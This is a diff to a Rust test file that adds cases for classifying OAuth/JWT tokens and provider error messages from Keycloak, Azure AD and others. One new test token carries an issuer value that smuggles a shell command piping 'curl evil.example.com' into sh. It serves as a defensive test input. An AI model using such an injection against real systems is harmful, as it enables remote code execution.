@@ -50,6 +50,12 @@ fn rules() -> Vec<Case> {
             rs256(&json!({"iss": "https://example.eu.auth0.com/", "aud": "app", "nonce": "n"})),
         ),
         (
+            "Keycloak, an issuer that is a command",
+            rs256(
+                &json!({"iss": "https://id.example.com/realms/a';curl evil.example.com|sh;'", "typ": "Bearer", "azp": "web"}),
+            ),
+        ),
+        (
             "Keycloak, refresh token",
             hs256(&json!({"iss": "https://id.example.com/realms/demo", "typ": "Refresh"})),
         ),
@@ -531,6 +537,7 @@ fn complaints() -> Vec<Case> {
             ("complaint: grant", "{\"error\":\"invalid_grant\"}"),
             ("complaint: client", "{\"error\":\"invalid_client\"}"),
             ("complaint: key or algorithm", "Jwks doesn't have key to match kid or alg from Jwt"),
+            ("complaint: times", "AADSTS700024: Client assertion is not within its valid time range."),
             ("complaint: revoked", "NotAuthorizedException: Access Token has been revoked"),
             (
                 "complaint: trust policy",
